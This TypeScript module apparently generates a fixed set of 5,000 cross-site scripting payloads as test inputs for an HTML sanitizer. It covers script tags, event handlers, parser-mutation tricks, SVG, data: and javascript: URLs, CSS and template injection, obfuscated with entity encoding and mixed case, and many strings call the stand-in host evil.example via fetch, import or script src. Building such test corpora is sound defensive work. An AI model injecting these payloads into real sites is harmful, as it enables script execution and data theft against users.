import { hostileMarkup } from './hostile-markup.ts';

/** A seeded random number generator, 0 to below 1 (mulberry32). */
function numbersFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const next = numbersFrom(20_261_123);
const one = <T>(of: readonly T[]): T => of[Math.floor(next() * of.length)] as T; // no list below is empty
const mixed = (text: string) => text.replace(/[a-z]/g, (letter) => (next() < 0.5 ? letter.toUpperCase() : letter));
const coded = (text: string) =>
  text.replace(/[a-z:]/g, (letter) => {
    const code = letter.charCodeAt(0);
    return next() < 0.4
      ? one([`&#${code};`, `&#x${code.toString(16)};`, `&#0${code}`, `&#X${code.toString(16)}`])
      : letter;
  });
const disguised = (text: string) => one([text, text, mixed(text), coded(text)]);

/** An effect that the test can detect: a dialog, a property of the window, another page, another site. */
const call = (number: number) =>
  one([
    `alert(${number})`,
    `top.hit=${number}`,
    `window['hit']=${number}`,
    `confirm\`${number}\``,
    `location='//evil.example/${number}'`,
    `import('//evil.example/${number}')`,
    `(0,eval)('top.hit=${number}')`,
    `document.title='hit${number}'`,
    `fetch('//evil.example/${number}')`,
  ]);

const elements =
  'img src=x|svg|body|iframe|video src=x|audio src=x|details open|input autofocus|marquee|p|a href=/|em|math|h3|li|object|select autofocus|form|button|style|x-y|dialog open|blockquote';
const handlers =
  'load|error|click|mouseover|focus|toggle|animationstart|pointerenter|beforetoggle|scrollend|wheel|transitionrun|begin|start|cut|auxclick|contentvisibilityautostatechange';
const elementNames = elements.split('|');
const handlerNames = handlers.split('|');
const gap = () => one([' ', '/', '\n', '\t', '  ', ' x=1 ', '"', "'"]);

function handled(number: number): string {
  const quote = one(['"', "'", '', '`']);
  const end = one(['>', '>x', '/>', '', ' ', '>x</p>']);
  return `<${mixed(one(elementNames))}${gap()}${mixed(`on${one(handlerNames)}`)}${one(['=', ' = ', '\n='])}${quote}${one([call(number), coded(call(number))])}${quote}${end}`;
}

const address = (number: number) => {
  const run = call(number);
  return one([
    () => `${disguised('javascript')}${one([':', '&colon;', '&#58;', '\n:', '\t:'])}${run}`,
    () => `java${one(['\n', '\t', '&Tab;', '&NewLine;', '&#10;', '\\', '%0a'])}script:${run}`,
    () => `${one([' ', '&#1;', '&nbsp;', '\n'])}${mixed('javascript')}:${run}`,
    () => `javascript://%0a${run}`,
    () => `${one(['vbscript', 'livescript', 'view-source:javascript', 'feed:javascript', 'https:javascript'])}:${run}`,
    () => `${one(['//', '/\\', '\\\\', '/\t/', '\n//'])}evil.example/${number}`,
  ])();
};

type Family = (number: number) => string;

export const families: Readonly<Record<string, Family>> = {
  script: (number) =>
    one([
      () => `<${mixed('script')}${gap()}>${call(number)}</script>`,
      () => `</p></div></main><script>${call(number)}</script>`,
      () => `<scr<script>ipt>${call(number)}</scr</script>ipt>`,
      () => `<script src="//evil.example/${number}.js"${gap()}></script>`,
      () => `"><script>${call(number)}//`,
      () => `'></textarea></title></style><script>${call(number)}</script>`,
      () => `<script type=${one(['module', 'speculationrules', 'importmap', 'text/jscript'])}>${call(number)}</script>`,
      () => `<!--${one(['>', '->', '--!>', ''])}<script>${call(number)}</script>-->`,
      () => `<${one(['iframe', 'object', 'embed'])} src${gap()}="javascript:${call(number)}">`,
    ])(),
  handlers: handled,
  mutation: (number) => {
    const trap = `<img src=x onerror=${call(number)}>`;
    const raw = one(['noscript', 'xmp', 'textarea', 'title', 'template', 'style', 'noembed', 'noframes', 'plaintext']);
    return one([
      () => `<${raw}><p title="</${raw}>${trap}"></${raw}>`,
      () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${trap.replaceAll('<', '&lt;')}">`,
      () => `<svg></p><style><a id="</style>${trap}">`,
      () => `<${one(['svg', 'math'])}><${one(['desc', 'title', 'mi', 'annotation-xml'])}><${raw}>${trap}</${raw}>`,
      () => `<select><${raw}>${trap}</select></${raw}>`,
      () => `<table><td><${raw}></table>${trap}`,
      () =>
        `<!${one(['--', '[CDATA[', 'doctype ', '-', ''])}${one(['>', '', '--!>'])}${trap}${one(['-->', ']]>', '>'])}`,
      () => `<p ${one(['"', "'", '`', '='])}${one(['>', ' '])}${trap}`,
      () => `${'<em>'.repeat(1 + Math.floor(next() * 12))}${trap}`,
      () => coded(trap.replace('<', '&lt;')) + trap,
    ])();
  },
  svg: (number) =>
    one([
      () =>
        `<svg><${one(['animate', 'set', 'animateMotion'])} on${one(['begin', 'end'])}=${call(number)} attributeName=x dur=1s>`,
      () => `<svg><a xlink:href="${address(number)}"><text>${number}</text></a></svg>`,
      () => `<svg><use href="data:image/svg+xml,<svg id=x><script>${call(number)}</script></svg>#x">`,
      () => `<svg><foreignObject><iframe srcdoc="<script>parent.${call(number)}</script>">`,
      () => `<svg><a><animate attributeName=href values="javascript:${call(number)}"/><text>${number}</text></a>`,
      () => `<svg/onload=${call(number)}${gap()}>`,
      () => `<svg><image href=x on${one(handlerNames)}=${call(number)}></svg>`,
    ])(),
  data: (number) => {
    const page = `<script>${call(number)}</script>`;
    const at = one([
      `data:text/html,${page}`,
      `data:text/html;base64,${btoa(page)}`,
      `${mixed('data')}:image/svg+xml;utf8,<svg onload=${call(number)}>`,
      `data:application/xhtml+xml,${encodeURIComponent(page)}`,
    ]);
    return one([
      () => `<a href='${at}'>${number}</a>`,
      () => `<${one(['iframe', 'embed', 'img', 'script', 'frame'])} src='${at}'>`,
      () => `<object data='${at}'></object>`,
      () => `<meta http-equiv=refresh content='0;url=${at}'>`,
      () => at,
    ])();
  },
  javascript: (number) => {
    const to = address(number);
    return one([
      () => `<a ${one(['', 'class=x ', 'target=_top '])}${mixed('href')}="${to}">${number}</a>`,
      () => `<a href='${to}' ping="//evil.example">${number}`,
      () => `<form action="${to}"><button formaction="${to}" autofocus>x</button></form>`,
      () => `<a href="/x" href="${to}">${number}</a>`,
      () => `<base href="${to}">`,
      () => to,
    ])();
  },
  css: (number) => {
    const rule = one([
      `background:url(//evil.example/${number})`,
      `background:url(javascript:${call(number)})`,
      `width:expression(${call(number)})`,
      `-moz-binding:url(//evil.example/${number})`,
      `position:fixed;inset:0;z-index:${number}`,
      `behavior:url(#${number})`,
      `@import '//evil.example/${number}'`,
    ]);
    return one([
      () => `<style>*{${rule}}</style>`,
      () => `<${one(['p', 'em', 'li', 'h3', 'a href=/x'])} style="${rule}">${number}`,
      () => `<link rel=stylesheet href="//evil.example/${number}.css">`,
      () => `</style><style>body{${rule}}`,
      () => `<p style='${coded(rule)}'>${number}`,
    ])();
  },
  template: (number) => {
    const run = call(number);
    return one([
      () => `{{constructor.constructor("${run}")()}}`,
      () => `\${${run}}`,
      () => `<%= ${run} %>`,
      () => `#{${run}} *{${run}}`,
      () => `[[${run}]] {%${run}%} @(${number})`,
      () => `{"__html":"<img src=x onerror=${run}>","n":${number}}`,
      () => `</script><script>window.__DATA__={"x":"${run}"}`,
      () => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
      () => `$& $\` $' $1 <em>${run}</em>`,
    ])();
  },
};

const MOST = 5000;

function generate(): string[] {
  const all = new Set(hostileMarkup);
  const each = Object.values(families);
  for (let number = 1; all.size < MOST; number++) all.add(each[number % each.length]?.(number) ?? '');
  return [...all];
}

/** Would run scripts, call another site or break the page if they were not cleaned. The same in every run. */
export const hostileStrings: readonly string[] = generate();
